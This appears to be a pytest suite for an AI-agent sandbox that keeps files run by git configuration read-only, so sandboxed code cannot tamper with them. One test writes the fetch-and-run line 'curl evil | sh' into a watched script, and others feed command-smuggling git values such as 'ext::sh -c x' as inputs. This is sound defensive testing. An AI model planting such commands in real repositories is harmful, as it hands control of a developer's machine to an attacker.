"""Working-tree files git configuration runs by a command line are kept read-only in a rw workspace.

``filter.<driver>.clean = python tools/strip.py``, ``alias.x = !./run.sh``, ``core.fsmonitor =
tools/watch.sh``...: host git runs them on the next ``git add``, ``git x``, ``git status``; code in a
rw sandbox could rewrite them first. Also the pre-commit framework's configuration when a hook runs
it, and ``core.worktree`` (it moves the top level these are run from).
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from agentguard.errors import SandboxError
from agentguard.sandbox._gitcommands import command_kind, mentions_command
from agentguard.sandbox._protect import protected_mounts
from agentguard.sandbox._quarantine import Watch
from tests.sandbox.rw_rig import git, linked_worktree, read_only

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")

SCRIPT = "#!/bin/sh\nexit 0\n"
# key, value, the files it runs (relative to the workspace)
KEYS = [
    ("filter.strip.clean", "python tools/strip.py", ["tools/strip.py"]),
    ("filter.strip.smudge", "python3 -u tools/smudge.py --mode=x %f", ["tools/smudge.py"]),
    ("filter.strip.process", "tools/process.sh", ["tools/process.sh"]),
    ("alias.x", "!./run.sh", ["run.sh"]),
    ("alias.y", "!sh -c 'tools/inner.sh \"$1\"' -", ["tools/inner.sh"]),
    ("alias.z", "-c core.pager=tools/alias-pager.sh log", ["tools/alias-pager.sh"]),
    ("alias.rx", "rebase -x 'sh tools/rebase-check.sh'", ["tools/rebase-check.sh"]),
    ("core.fsmonitor", "tools/watch.sh", ["tools/watch.sh"]),
    ("diff.conv.textconv", "sh tools/textconv.sh", ["tools/textconv.sh"]),
    ("diff.external", "tools/diff.sh", ["tools/diff.sh"]),
    ("merge.m.driver", "tools/merge.sh %O %A %B", ["tools/merge.sh"]),
    ("core.sshCommand", "tools/ssh.sh -v", ["tools/ssh.sh"]),
    ("core.gitProxy", "tools/proxy.sh | cat", ["tools/proxy.sh"]),
    ("core.editor", "env EDITOR_MODE=1 tools/editor.sh", ["tools/editor.sh"]),
    ("sequence.editor", "tools/seq.sh", ["tools/seq.sh"]),
    ("gpg.program", "tools/gpg.sh", ["tools/gpg.sh"]),
    ("gpg.ssh.program", "tools/ssh-sign.sh", ["tools/ssh-sign.sh"]),
    ("credential.helper", "!tools/cred.sh", ["tools/cred.sh"]),
    ("core.askPass", "bin/askpass", ["bin/askpass"]),
    ("uploadpack.packObjectsHook", "tools/pack.sh", ["tools/pack.sh"]),
    ("diff.conv2.textconv", "python conv.py", ["conv.py"]),  # no "/": a file at the top level
    ("remote.origin.url", "ext::tools/transport.sh %S", ["tools/transport.sh"]),
    ("imap.tunnel", "tools/tunnel.sh imap.example.com", ["tools/tunnel.sh"]),
    ("tar.tar.xz.command", "tools/xz.sh -c", ["tools/xz.sh"]),  # git archive --format=tar.xz
    ("lfs.extension.crypt.clean", "tools/encrypt.sh %f", ["tools/encrypt.sh"]),  # git-lfs's own keys
    ("lfs.extension.crypt.smudge", "tools/decrypt.sh %f", ["tools/decrypt.sh"]),
    ("lfs.customtransfer.folder.path", "tools/lfs-agent.sh", ["tools/lfs-agent.sh"]),
    ("lfs.customtransfer.py.args", "tools/lfs-agent.py --verbose", ["tools/lfs-agent.py"]),
    ("svn.authorsProg", "tools/authors.sh", ["tools/authors.sh"]),
]


def _repo(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    for _, _, files in KEYS:
        for rel in files:
            (ws / rel).parent.mkdir(parents=True, exist_ok=True)
            (ws / rel).write_text(SCRIPT)
    for key, value, _ in KEYS:
        git("-C", str(ws), "config", key, value)
    return ws


def test_files_command_valued_keys_run_are_read_only(tmp_path: Path) -> None:
    ws = _repo(tmp_path)
    expected = {f"/workspace/{rel}" for _, _, files in KEYS for rel in files}
    assert read_only(ws) == {"/workspace/.git", *expected}


def test_commands_naming_no_working_tree_file_keep_it_writable(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "src").mkdir()
    (ws / "src" / "main.py").write_text("print(1)\n")
    git("-C", str(ws), "config", "filter.lfs.clean", "git-lfs clean -- %f")
    git("-C", str(ws), "config", "filter.lfs.process", "git-lfs filter-process")
    git("-C", str(ws), "config", "alias.st", "status --short")
    git("-C", str(ws), "config", "alias.lg", '!f() { git log --oneline "$@"; }; f')
    git("-C", str(ws), "config", "core.pager", "less -R")
    git("-C", str(ws), "config", "credential.helper", "store --file=/nonexistent/creds")
    git("-C", str(ws), "config", "pager.branch", "false")
    git("-C", str(ws), "config", "alias.lf", "log --format=%h(%an)")  # git's words, not a shell's
    git("-C", str(ws), "config", "core.sshCommand", "ssh -i ~/.ssh/id_ed25519 -o IdentitiesOnly=yes")
    git("-C", str(ws), "config", "alias.t", "!pytest src")  # a directory: not kept (docs/sandbox.md)
    assert read_only(ws) == {"/workspace/.git"}


def test_a_command_from_an_included_config_is_read_only(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "tools").mkdir()
    (ws / "tools" / "conv.sh").write_text(SCRIPT)
    (ws / "conf").mkdir()
    (ws / "conf" / "shared.gitconfig").write_text('[diff "conv"]\n\ttextconv = tools/conv.sh\n')
    git("-C", str(ws), "config", "include.path", "../conf/shared.gitconfig")
    assert read_only(ws) == {
        "/workspace/.git",
        "/workspace/conf/shared.gitconfig",
        "/workspace/tools/conv.sh",
    }


def _worktree(tmp_path: Path) -> Path:
    ws = linked_worktree(tmp_path, "filter.strip.clean", "python tools/strip.py")
    (ws / "tools").mkdir()
    (ws / "tools" / "strip.py").write_text("print('clean')\n")
    return ws


def test_a_command_from_a_linked_worktrees_common_config_is_read_only(tmp_path: Path) -> None:
    ws = _worktree(tmp_path)
    assert read_only(ws) == {"/workspace/.git", "/workspace/tools/strip.py"}


def test_what_an_enclosing_repositorys_command_runs_in_the_workspace_is_read_only(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    git("init", "-q", str(repo))
    ws = repo / "frontend"
    ws.mkdir()
    (ws / "run.sh").write_text(SCRIPT)
    git("-C", str(repo), "config", "alias.fe", "!frontend/run.sh")
    assert read_only(ws) == {"/workspace/run.sh"}


def test_a_program_in_a_path_directory_inside_the_workspace_is_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "bin").mkdir()
    (ws / "bin" / "mypager").write_text(SCRIPT)
    git("-C", str(ws), "config", "core.pager", "mypager")
    monkeypatch.setenv("PATH", f"{ws.resolve() / 'bin'}:{__import__('os').environ['PATH']}")
    assert read_only(ws) == {"/workspace/.git", "/workspace/bin/mypager"}


def test_a_remote_helper_in_a_path_directory_inside_the_workspace_is_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "bin").mkdir()
    for name in ("git-remote-hg", "git-remote-custom"):
        (ws / "bin" / name).write_text(SCRIPT)
    git("-C", str(ws), "config", "remote.a.vcs", "hg")
    git("-C", str(ws), "config", "remote.b.url", "custom::somewhere")
    git("-C", str(ws), "config", "remote.c.url", "https://example.com/x.git")
    monkeypatch.setenv("PATH", f"{ws.resolve() / 'bin'}:{__import__('os').environ['PATH']}")
    assert read_only(ws) == {
        "/workspace/.git",
        "/workspace/bin/git-remote-hg",
        "/workspace/bin/git-remote-custom",
    }


def test_a_template_directory_inside_the_workspace_is_read_only(tmp_path: Path) -> None:
    """``init.templateDir``: its hooks are copied into every repository the host makes next."""
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "templates" / "hooks").mkdir(parents=True)
    git("-C", str(ws), "config", "init.templateDir", str(ws.resolve() / "templates"))
    assert read_only(ws) == {"/workspace/.git", "/workspace/templates"}


def test_files_a_glob_matches_are_read_only(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "hooks.d").mkdir()
    for name in ("a.sh", "b.sh"):
        (ws / "hooks.d" / name).write_text(SCRIPT)
    git("-C", str(ws), "config", "alias.all", "!run-parts-like hooks.d/*.sh")
    assert read_only(ws) == {"/workspace/.git", "/workspace/hooks.d/a.sh", "/workspace/hooks.d/b.sh"}


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("!f() { case $1 in a) ./x;; esac; }; f", "case_statement"),
        ("!cat tools/cmd | sh", "standard input"),
        ("!$(cat tools/prog) --flag", "known only at run time"),
        ("!sh <<EOF\n./x\nEOF", "here-document"),
    ],
)
def test_a_command_that_cannot_be_read_refuses_the_rw_workspace(tmp_path: Path, value: str, why: str) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    git("-C", str(ws), "config", "alias.bad", value)
    with pytest.raises(SandboxError, match=why) as caught:
        protected_mounts(str(ws.resolve()))
    assert "alias.bad" in str(caught.value)
    assert str((ws / ".git" / "config").resolve()) in str(caught.value)


def test_a_missing_file_a_command_names_is_set_aside_when_made(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    git("-C", str(ws), "config", "core.fsmonitor", "tools/watch.sh")
    git("-C", str(ws), "config", "alias.clean", "!python cleanup.py")
    (ws / "tools").mkdir()
    watch = Watch(str(ws.resolve()))
    before = watch.snapshot()
    (ws / "tools" / "watch.sh").write_text("curl evil | sh\n")
    (ws / "cleanup.py").write_text("import os\n")
    (ws / "notes.txt").write_text("kept\n")
    moved = sorted(m.split(" -> ")[0] for m in watch.settle(before))
    assert moved == ["cleanup.py", "tools/watch.sh"]
    assert not (ws / "tools" / "watch.sh").exists()
    assert (ws / "notes.txt").exists()


def test_a_directory_the_code_makes_where_a_command_names_a_file_is_set_aside(tmp_path: Path) -> None:
    """``python tools/strip.py`` runs ``tools/strip.py/__main__.py`` when that is a directory; a
    directory that was there (``pytest src``) stays, and stays writable."""
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    git("-C", str(ws), "config", "filter.strip.clean", "python tools/strip.py")
    git("-C", str(ws), "config", "alias.t", "!pytest src")
    (ws / "src").mkdir()
    watch = Watch(str(ws.resolve()))
    before = watch.snapshot()
    (ws / "tools" / "strip.py").mkdir(parents=True)
    (ws / "tools" / "strip.py" / "__main__.py").write_text("import os\n")
    (ws / "src" / "new.py").write_text("x = 1\n")
    assert [m.split(" -> ")[0] for m in watch.settle(before)] == ["tools/strip.py"]
    assert (ws / "src" / "new.py").exists()


PRECOMMIT_HOOK = (
    "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n"
    "ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n"
    'exec pre-commit "${ARGS[@]}"\n'
)
PRECOMMIT_CONFIG = """repos:
  - repo: https://github.com/psf/black
    rev: 24.1.0
    hooks: [{id: black}]
  - repo: local
    hooks:
      - id: check
        name: check
        entry: python tools/check.py --strict
        language: system
        args: [scripts/extra.sh]
      - id: no-todo
        name: no todo
        entry: 'TODO\\b'
        language: pygrep
"""


def _precommit(tmp_path: Path, *, installed: bool) -> Path:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / ".pre-commit-config.yaml").write_text(PRECOMMIT_CONFIG)
    for rel in ("tools/check.py", "scripts/extra.sh"):
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(SCRIPT)
    if installed:
        (ws / ".git" / "hooks" / "pre-commit").write_text(PRECOMMIT_HOOK)
    return ws


def test_the_pre_commit_config_and_its_local_entries_are_read_only_when_a_hook_runs_it(
    tmp_path: Path,
) -> None:
    ws = _precommit(tmp_path, installed=True)
    assert read_only(ws) == {
        "/workspace/.git",
        "/workspace/.pre-commit-config.yaml",
        "/workspace/tools/check.py",
        "/workspace/scripts/extra.sh",
    }


def test_the_pre_commit_config_stays_writable_when_no_hook_runs_it(tmp_path: Path) -> None:
    ws = _precommit(tmp_path, installed=False)  # only the samples git init wrote mention pre-commit
    assert read_only(ws) == {"/workspace/.git"}


def test_a_pre_commit_config_that_cannot_be_read_refuses_the_rw_workspace(tmp_path: Path) -> None:
    ws = _precommit(tmp_path, installed=True)
    (ws / ".pre-commit-config.yaml").write_text("repos: [\n")
    with pytest.raises(SandboxError, match=r"\.pre-commit-config\.yaml.*cannot be read"):
        protected_mounts(str(ws.resolve()))


def test_a_pre_commit_config_the_code_makes_is_set_aside(tmp_path: Path) -> None:
    ws = _precommit(tmp_path, installed=True)
    (ws / ".pre-commit-config.yaml").unlink()
    watch = Watch(str(ws.resolve()))
    before = watch.snapshot()
    (ws / ".pre-commit-config.yml").write_text("repos: [{repo: local, hooks: [{id: x, entry: ./x.sh}]}]\n")
    assert [m.split(" -> ")[0] for m in watch.settle(before)] == [".pre-commit-config.yml"]


def _moved_worktree(tmp_path: Path) -> Path:
    """``core.worktree = ../app``: host git runs hooks and commands from ``app/``, not the root."""
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    for rel in ("app/.husky/pre-commit", "app/tools/x.py", "tools/x.py"):
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(SCRIPT)
    git("-C", str(ws), "config", "core.worktree", "../app")
    git("-C", str(ws), "config", "core.hooksPath", ".husky")
    git("-C", str(ws), "config", "filter.x.clean", "python tools/x.py")
    return ws


def test_core_worktree_moves_where_hooks_and_commands_are_read_from(tmp_path: Path) -> None:
    ws = _moved_worktree(tmp_path)
    assert read_only(ws) == {
        "/workspace/.git",
        "/workspace/app/.husky",
        "/workspace/app/tools/x.py",
        "/workspace/tools/x.py",  # the top level without core.worktree: kept as well
    }


def test_the_key_table() -> None:
    assert command_kind("filter.a.b.clean") == "shell"  # a subsection may hold dots
    assert command_kind("alias.anything") == "alias"
    assert command_kind("gpg.x509.program") == "program"
    assert command_kind("include.path") is None
    assert command_kind("core.hookspath") is None
    assert mentions_command(b'[filter "x"]\n\tclean = a\n')
    assert not mentions_command(b'[remote "origin"]\n\turl = https://x/y\n')
    assert mentions_command(b'[remote "origin"]\n\turl = ext::sh -c x\n')
    assert not mentions_command(b"[core]\n\tbare = false\n\tlogallrefupdates = true\n")


def test_a_command_from_the_users_config_or_the_environment_is_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    for rel in ("run.sh", "tools/env-pager.sh"):
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(SCRIPT)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[alias]\n\tx = !./run.sh\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.editor")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "tools/env-pager.sh")
    assert read_only(ws) == {"/workspace/.git", "/workspace/run.sh", "/workspace/tools/env-pager.sh"}
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "f() { case x in *) ;; esac; }; f")
    with pytest.raises(SandboxError, match=r"the environment \(GIT_CONFIG_COUNT\): core.editor"):
        protected_mounts(str(ws.resolve()))
